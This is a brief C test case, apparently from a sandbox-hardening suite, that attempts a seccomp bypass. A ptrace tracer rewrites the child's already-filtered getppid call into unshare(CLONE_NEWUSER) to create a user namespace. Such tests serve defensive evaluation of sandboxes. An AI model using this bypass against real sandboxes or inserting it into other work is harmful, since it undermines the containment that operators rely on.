#include "attack.h"
// A traced own child whose call is rewritten after the filter has seen it.
#include <sys/user.h>
ATTACK(.judge = "ns:user") {
  pid_t child = fork();
  if (!child) {
    ptrace(PTRACE_TRACEME, 0, 0, 0);
    raise(SIGSTOP);
    syscall(SYS_getppid, CLONE_NEWUSER);
    hold();
    _exit(0);
  }
  int status;
  if (waitpid(child, &status, 0) < 0 || !WIFSTOPPED(status)) return note("ptrace");
  for (int i = 0; i < 40; i++) {
    struct user_regs_struct r;
    if (ptrace(PTRACE_SYSCALL, child, 0, 0) || waitpid(child, &status, 0) < 0 || !WIFSTOPPED(status)) break;
    if (ptrace(PTRACE_GETREGS, child, 0, &r)) break;
    if (r.orig_rax == SYS_getppid && (long)r.rax == -ENOSYS) {
      r.orig_rax = SYS_unshare;
      ptrace(PTRACE_SETREGS, child, 0, &r);
      break;
    }
  }
  ptrace(PTRACE_DETACH, child, 0, 0);
  hold();
  waitpid(child, NULL, WNOHANG);
}
